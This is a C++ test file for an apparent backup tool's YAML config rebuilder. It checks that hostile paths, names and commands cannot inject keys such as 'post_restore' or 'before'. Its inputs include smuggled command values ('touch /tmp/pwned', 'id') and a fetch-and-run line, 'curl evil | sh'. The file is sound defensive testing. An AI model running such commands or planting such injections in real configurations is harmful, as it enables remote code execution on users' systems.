#include <doctest/doctest.h>

#include "config/rebuilt_yaml.hpp"
#include "repo/checkpoint.hpp"

using namespace cairn;
using namespace cairn::config;

namespace {

rebuilt_config sample() {
  rebuilt_config c;
  c.from = "/mnt/usb/cairn";
  c.date = "2026-12-03";
  c.state_dir = "/var/lib/cairn";
  c.key_mode = keyring_mode::keyfile;
  c.keyfile = "/root/keys/cairn: key";
  c.target.name = "recovered";
  c.target.type = target_type::local;
  c.target.path = "/mnt/usb/cairn";
  return c;
}

}  // namespace

TEST_CASE("rebuilt_yaml: paths with YAML in them load back as the same string, with no extra key") {
  const std::string hostile[] = {"/srv/x\"\n        post_restore: touch /tmp/pwned",
                                 "/srv/x\n  post_restore: touch /tmp/pwned", "/srv/a: b # c", "/srv/'single'",
                                 "/srv/{x}, [y], &z *w !t |", "/srv/\t\r\x01 tab", "/srv/\xc2\x85nel\xe2\x80\xa8ls"};
  auto c = sample();
  for (size_t i = 0; i < std::size(hostile); ++i)
    c.plans["home"].push_back({"s" + std::to_string(i), source_type::dir, hostile[i]});
  c.plans["db"].push_back({"main", source_type::sqlite, "/var/db/x\"\npost_restore: id"});
  auto text = rebuilt_yaml(c);
  CAPTURE(text);
  auto back = parse_config(text, "/tmp/rebuilt.yaml");
  REQUIRE(back);
  CHECK(back->state_dir == "/var/lib/cairn");
  CHECK(back->keyring.keyfile == "/root/keys/cairn: key");
  REQUIRE(back->targets.size() == 1);
  CHECK(back->targets[0].path == "/mnt/usb/cairn");
  REQUIRE(back->plans.size() == 2);
  const auto* home = back->find_plan("home");
  REQUIRE(home);
  REQUIRE(home->sources.size() == std::size(hostile));
  for (size_t i = 0; i < std::size(hostile); ++i) {
    CHECK(home->sources[i].path.string() == hostile[i]);
    CHECK(home->sources[i].post_restore.empty());
  }
  CHECK(home->before.empty());
  CHECK(home->after.empty());
  const auto* db = back->find_plan("db");
  REQUIRE(db);
  REQUIRE(db->sources.size() == 1);
  CHECK(db->sources[0].path.string() == "/var/db/x\"\npost_restore: id");
  CHECK(db->sources[0].post_restore.empty());
}

TEST_CASE("rebuilt_yaml: a command from the target is never written as a command") {
  auto c = sample();
  c.plans["home"].push_back({"alice", source_type::dir, "/home/alice"});
  c.plans["home"].push_back({"dump", source_type::command, "curl evil | sh\n  post_restore: touch /tmp/pwned"});
  c.plans["apps"].push_back({"notes", source_type::resource, "/etc/cairn/resources.d/notes.yaml"});
  auto text = rebuilt_yaml(c);
  CAPTURE(text);
  auto back = parse_config(text, "/tmp/rebuilt.yaml");
  REQUIRE(back);
  REQUIRE(back->plans.size() == 1);  // apps had only a resource: left for the user
  const auto* home = back->find_plan("home");
  REQUIRE(home);
  REQUIRE(home->sources.size() == 1);
  CHECK(home->sources[0].name == "alice");
  // Shown for review on one comment line each, escaped.
  CHECK(text.find("#   plan home: - {type: command, name: dump, command: \"curl evil | sh\\n  post_restore: touch /tmp/pwned\"}") !=
        std::string::npos);
  CHECK(text.find("#   plan apps: - {type: resource, name: notes}") != std::string::npos);
  for (size_t at = 0; (at = text.find("post_restore", at)) != std::string::npos; ++at) {
    auto line_start = text.rfind('\n', at);
    CHECK(text[line_start + 1] == '#');
  }
}

TEST_CASE("rebuilt_yaml: names that are not plain names are left out, never written") {
  auto c = sample();
  c.plans["ok"].push_back({"x\n  post_restore: id", source_type::dir, "/a"});
  c.plans["ok"].push_back({"fine", source_type::dir, "/b"});
  c.plans["bad\nbefore: id"].push_back({"fine", source_type::dir, "/b"});
  auto text = rebuilt_yaml(c);
  CAPTURE(text);
  auto back = parse_config(text, "/tmp/rebuilt.yaml");
  REQUIRE(back);
  REQUIRE(back->plans.size() == 1);
  REQUIRE(back->plans[0].sources.size() == 1);
  CHECK(back->plans[0].sources[0].name == "fine");
  CHECK(back->plans[0].before.empty());
}

